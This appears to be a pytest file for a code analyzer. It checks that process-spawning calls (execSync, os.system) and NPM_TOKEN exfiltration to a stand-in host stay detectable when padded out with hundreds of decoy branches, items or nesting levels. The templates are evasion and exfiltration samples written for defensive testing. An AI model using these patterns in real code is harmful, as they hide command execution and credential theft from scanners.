"""What matters among much that does not: however many branches, items, links and levels stand around it.

An evaluator has bounds. Whoever knows them can fill them with things of no interest, so that what follows is not
looked at any more: each of these hides one act among up to 300 others. It is told, or the file is told as not
understood.
"""

import re
from types import ModuleType

import pytest

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import javascript, python

COUNTS = (3, 8, 20, 70, 300)
DEEPEST = 60
"""Levels of brackets that one expression may have."""


def written(template: str, count: int) -> str:
    """Return code: what stands between ``<<`` and ``>>`` so many times.

    ``#`` is the number of each, ``@`` that of the next, and ``%`` the number of the last.
    """

    def repeated(part: re.Match[str]) -> str:
        return "".join(part[1].replace("#", str(n)).replace("@", str(n + 1)) for n in range(count))

    return re.sub(r"<<(.*?)>>", repeated, template, flags=re.DOTALL).replace("%", str(count))


def read(module: ModuleType, template: str, count: int) -> Facts:
    """Read code in the language of a module."""
    facts = module.read(module.ID, written(template, count).encode(), NoUnits())
    assert isinstance(facts, Facts)
    return facts


STARTED_BY_JAVASCRIPT = {
    "one of several names": "const f=<<a#?b#:>>c.execSync;f('x')",
    "the first that there is": "const f=<<b#||>>c.execSync;f('x')",
    "an item": "const f=[<<b#,>>c.execSync][q];f('x')",
    "a member": "const f={<<k#:b#,>>z:c.execSync}[q];f('x')",
    "a table of commands": "const o={<<k#(){return #},>>z:c.execSync};o[process.argv[2]]('x')",
    "branches": "let f;<<if(x#)f=b#;>>else f=c.execSync;f('x')",
    "exchanged": "let f=c.execSync;<<if(x#)f=b#;>>f('x')",
    "cases": "let f;switch(q){<<case #:f=b#;break;>>default:f=c.execSync}f('x')",
    "given": "function p(x){<<if(x==#)return b#;>>return c.execSync}p(q)('x')",
    "handed to a callback": "[<<b#,>>c.execSync].forEach(f=>f('x'))",
    "one of its own functions": "<<function b#(x){}>>const f=<<a#?b#:>>c.execSync;f('x')",
    "one of the functions of modules": "const s=require('fs');const f=<<a#?s.m#:>>c.execSync;f('x')",
    "the name of a module": "const m=<<a#?'mod#':>>'child_process';require(m).execSync('x')",
    "the name of a member": "const m=<<a#?'mod#':>>'execSync';c[m]('x')",
    "evaluated texts": "<<eval('a#=1');>>eval(\"require('child_process').execSync('x')\")",
    "behind ends": "<<function f#(){return 1;g#()}>>function z(){return 1;c.execSync('x')}",
}
STARTED_BY_PYTHON = {
    "one of several names": "f=<<b# if a# else >>os.system\nf('x')",
    "an item": "f=[<<b#,>>os.system][q]\nf('x')",
    "a member": "f={<<'k#':b#,>>'z':os.system}[q]\nf('x')",
    "branches": "if a:\n    f=q\n<<elif x#:\n    f=b#\n>>else:\n    f=os.system\nf('x')",
    "one after the other": "for f in [<<b#,>>os.system]:\n    f('x')",
    "one of its own functions": "<<def b#(x): pass\n>>f=<<b# if a# else >>os.system\nf('x')",
    "one of the functions of modules": "f=<<os.path.f# if a# else >>os.system\nf('x')",
    "given": "def p(x):\n<<    if x==#: return b#\n>>    return os.system\np(q)('x')",
    "the name of a module": "m=<<'mod#' if a# else >>'os'\n__import__(m).system('x')",
    "the name of a member": "m=<<'mod#' if a# else >>'system'\ngetattr(os,m)('x')",
    "evaluated texts": "<<exec('a#=1')\n>>exec(\"import os;os.system('x')\")",
    "behind ends": "<<def f#(u):\n    return 1\n    g#()\n>>def z():\n    return 1\n    os.system('x')\n",
}


@pytest.mark.parametrize("count", COUNTS)
@pytest.mark.parametrize("what", STARTED_BY_JAVASCRIPT)
def test_a_program_that_javascript_starts(what: str, count: int) -> None:
    """Whichever of many things is called, that one starts a program."""
    facts = read(javascript, f"const c=require('child_process');{STARTED_BY_JAVASCRIPT[what]}", count)

    assert facts.problems or Kind.PROCESS_SPAWN in [fact.kind for fact in facts.facts]


@pytest.mark.parametrize("count", COUNTS)
@pytest.mark.parametrize("what", STARTED_BY_PYTHON)
def test_a_program_that_python_starts(what: str, count: int) -> None:
    """Whichever of many things is called, that one starts a program."""
    facts = read(python, f"import os\n{STARTED_BY_PYTHON[what]}", count)

    assert facts.problems or Kind.PROCESS_SPAWN in [fact.kind for fact in facts.facts]


@pytest.mark.parametrize("levels", [3, 8, 20, 90])
def test_functions_within_functions(levels: int) -> None:
    """A function that nobody calls is read, however many functions it stands in."""
    outer = "".join(" " * level + f"def f{level}():\n" for level in range(levels))
    facts = read(python, f"import os\n{outer}{' ' * levels}os.system('x')\n", 1)

    assert facts.problems or Kind.PROCESS_SPAWN in [fact.kind for fact in facts.facts]


SENT_BY_JAVASCRIPT = {
    "an array": "fetch('https://x.invalid/',{body:JSON.stringify([<<#,>>t])})",
    "an array that is joined": "fetch('https://x.invalid/'+[<<a#,>>t].join(''))",
    "arguments": "function g(...a){fetch('https://x.invalid/',{body:a.join()})}g(<<#,>>t)",
    "calls of a callback": (
        "function g0(x,c){c(x)}<<function g@(x,c){g#(x,c)}>>g%(t,t=>fetch('https://x.invalid/'+t))"
    ),
}  # fmt: skip
SENT_BY_PYTHON = {
    "calls of a callback": (
        "def g0(x,c):\n    c(x)\n<<def g@(x,c):\n    g#(x,c)\n>>g%(t,lambda t: r.urlopen('https://x.invalid/'+t))"
    ),
    "keywords": "def g(**k):\n    r.urlopen('https://x.invalid/'+k['z'])\ng(**{<<'k#':#,>>'z':t})",
    "classes": (
        "class B0:\n    def m(self,x):\n        r.urlopen('https://x.invalid/'+x)\n<<class B@(B#): pass\n>>B%().m(t)"
    ),
    "given": (
        "def p(x):\n<<    if x==#: return y#()\n>>    return t\nr.urlopen('https://x.invalid/'+p(q))"
    ),
}  # fmt: skip


def sends_a_secret(facts: Facts) -> bool:
    """Whether a secret is told to flow to a host."""
    ends = [(facts.facts[flow.source].kind, facts.facts[flow.sink].kind) for flow in facts.flows]
    return (Kind.SECRET_READ, Kind.NET_CONNECT) in ends


@pytest.mark.parametrize("count", COUNTS)
@pytest.mark.parametrize("what", SENT_BY_JAVASCRIPT)
def test_a_secret_that_javascript_sends(what: str, count: int) -> None:
    """However much a token is sent with, and through however many hands, it is told where it goes."""
    facts = read(javascript, f"const t=process.env.NPM_TOKEN;{SENT_BY_JAVASCRIPT[what]}", count)

    assert facts.problems or sends_a_secret(facts)


@pytest.mark.parametrize("count", COUNTS)
@pytest.mark.parametrize("what", SENT_BY_PYTHON)
def test_a_secret_that_python_sends(what: str, count: int) -> None:
    """However much a token is sent with, and through however many hands, it is told where it goes."""
    start = "import os,urllib.request as r\nt=os.environ['NPM_TOKEN']\n"
    facts = read(python, start + SENT_BY_PYTHON[what], count)

    assert facts.problems or sends_a_secret(facts)


@pytest.mark.parametrize("levels", [3, 8, 20, DEEPEST])
def test_objects_within_objects(levels: int) -> None:
    """A token within objects within objects goes where they go."""
    template = "fetch('https://x.invalid/',{body:JSON.stringify(<<{a:>>process.env.NPM_TOKEN<<}>>)})"

    assert sends_a_secret(read(javascript, template, levels))


AFTER_OTHER_FLOWS = {
    "javascript": (
        javascript,
        (
            "<<fetch('https://h#.invalid/').then(r=>r.text()).then(t=>require('fs').writeFileSync('f#',t));>>"
            "fetch('https://x.invalid/'+process.env.NPM_TOKEN)"
        ),
    ),
    "python": (
        python,
        (
            "import os,urllib.request as r\n<<open('f#','wb').write(r.urlopen('https://h#.invalid/').read())\n>>"
            "r.urlopen('https://x.invalid/'+os.environ['NPM_TOKEN'])"
        ),
    ),
}


@pytest.mark.parametrize("language", AFTER_OTHER_FLOWS)
def test_a_secret_that_is_sent_after_much_else(language: str) -> None:
    """Flows of one sort do not keep out those of another, however many there are."""
    module, template = AFTER_OTHER_FLOWS[language]

    assert sends_a_secret(read(module, template, 700))
